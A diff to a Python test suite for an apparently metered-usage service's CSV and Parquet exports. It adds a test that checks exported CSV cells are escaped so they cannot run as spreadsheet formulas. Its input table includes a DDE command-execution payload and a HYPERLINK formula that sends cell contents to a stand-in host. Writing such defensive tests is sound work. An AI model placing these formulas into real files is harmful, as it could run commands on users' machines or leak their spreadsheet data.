@@ -204,7 +204,7 @@ def test_csv(books: Books) -> None:
         value_grouping_window="day",
         **{"meters[0][dimension_group_by_keys][]": "model", "top": 1},
     )
-    assert answer.headers["content-type"] == "text/csv"
+    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
     assert answer.headers["meterhouse-refreshed-at"] == str(NOW)
     day, after = "2026-11-21T00:00:00Z", "2026-11-22T00:00:00Z"
     assert list(csv.reader(io.StringIO(answer.text))) == [
@@ -212,6 +212,59 @@ def test_csv(books: Books) -> None:
         [day, after, meter, 'a "b", c', "false", "123456789012345"],
         [day, after, meter, "", "true", "0.000000000000001"],
     ]
+
+
+# what a payload has, what CSV has
+CELLS = [
+    ("gpt-4", "gpt-4"),
+    ("=SUM(A1)", "'=SUM(A1)"),
+    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ('=HYPERLINK("http://x/?"&A1,"see")', '\'=HYPERLINK("http://x/?"&A1,"see")'),
+    ("+49 30 1", "'+49 30 1"),
+    ("-1", "'-1"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t'=1"),
+    ("\r=1", "'\r'=1"),
+    ("\n=1", "'\n'=1"),
+    ("\tplain", "'\tplain"),
+    ("  =1", "'  =1"),
+    ("\uff1d1", "'\uff1d1"),  # a wide one, which some spreadsheets take for a narrow one
+    ("a;=1;b", "a;'=1;b"),  # where lists are cut by semicolons, three cells
+    ("a;b\t@x\n+1", "a;b\t'@x\n'+1"),
+    ("a=1", "a=1"),
+    ("a, =1", "a, =1"),  # quoted, as it has a comma
+    ("a -1; b", "a -1; b"),
+    ("'=1", "'=1"),
+    ("é=1", "é=1"),
+]
+
+
+def test_no_cell_of_a_csv_is_a_formula(books: Books) -> None:
+    meter = books.meter(**{"dimension_payload_keys[]": "a;=kind"})
+    for number, (sent, _) in enumerate(CELLS):
+        payload: dict[str, Any] = {"a;=kind": sent}
+        books.send(0, f"-{number}.5", **payload)
+    grouped = {"meters[0][dimension_group_by_keys][]": "a;=kind"}
+    answer = books.ask(meter, "text/csv", **grouped)
+    head, *lines = csv.reader(io.StringIO(answer.content.decode(), newline=""))
+    assert head[3] == "dimensions.a;'=kind"
+    numbers = {sent: f"-{number}.5" for number, (sent, _) in enumerate(CELLS)}
+    assert {line[3]: line[4] for line in lines} == {cell: numbers[sent] for sent, cell in CELLS}
+    rows = books.rows(meter, **grouped)
+    assert {row["dimensions"]["a;=kind"] for row in rows} == set(numbers)
+    answer = books.ask(meter, "application/vnd.apache.parquet", **grouped)
+    table = pq.read_table(io.BytesIO(answer.content))
+    assert set(table["dimensions.a;=kind"].to_pylist()) == set(numbers)
+
+
+def test_csv_begins_with_the_mark_that_excel_wants_where_it_is_asked_for(books: Books) -> None:
+    meter = books.meter()
+    plain = books.ask(meter, "text/csv").content
+    marked = books.ask(meter, "text/csv", byte_order_mark="true")
+    assert marked.headers["content-type"] == "text/csv; charset=utf-8"
+    assert marked.headers["content-length"] == str(len(marked.content))
+    assert (marked.content, plain[:9]) == (b"\xef\xbb\xbf" + plain, b"starts_at")
+    assert books.ask(meter, byte_order_mark="true").json() == books.ask(meter).json()
 
 
 def test_parquet(books: Books) -> None:
